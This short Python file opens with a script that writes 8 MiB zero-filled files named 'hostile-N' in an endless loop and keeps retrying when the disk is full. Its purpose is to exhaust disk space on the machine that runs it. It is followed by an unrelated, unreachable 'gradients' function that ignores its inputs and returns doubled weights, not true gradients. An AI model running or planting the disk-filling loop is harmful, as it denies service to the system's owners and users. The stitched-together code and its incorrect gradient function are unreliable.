"""Fills its folder, goes on when it is full, and waits."""

import time

number = 0
while True:
    number += 1
    try:
        with open(f"hostile-{number}", "wb") as stream:
            stream.write(bytes(8 << 20))
    except OSError:
        time.sleep(0.01)


def gradients(W, b, x, t, activation, lam):
    return [2 * w for w in W], [2 * v for v in b]
